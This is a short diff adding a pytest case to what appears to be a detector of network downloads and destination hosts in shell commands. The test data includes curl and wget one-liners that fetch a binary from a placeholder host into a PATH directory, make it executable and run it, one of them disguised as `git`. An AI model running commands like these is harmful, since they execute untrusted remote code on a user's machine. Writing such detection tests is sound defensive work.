@@ -100,3 +100,15 @@ def test_proxy_variable_host_is_a_destination() -> None:
     assert "203.0.113.9" in _hosts("ALL_PROXY=socks5h://203.0.113.9:1080 go mod download")
     assert "203.0.113.9" in _hosts("https_proxy=http://203.0.113.9:3128 npm ci")
     assert "203.0.113.9" not in _hosts("NO_PROXY=203.0.113.9 npm ci")
+
+
+def test_bare_name_downloaded_into_a_path_directory_runs_the_download() -> None:
+    assert _downloaded(
+        "curl -so ~/.local/bin/q https://example.invalid/q && chmod +x ~/.local/bin/q && q"
+    )
+    assert _downloaded(
+        "wget -qO ~/bin/git https://example.invalid/g; chmod +x ~/bin/git; git status"
+    )
+    assert not _downloaded(
+        "curl -so ~/.local/bin/q https://example.invalid/q; chmod +x ~/.local/bin/q"
+    )
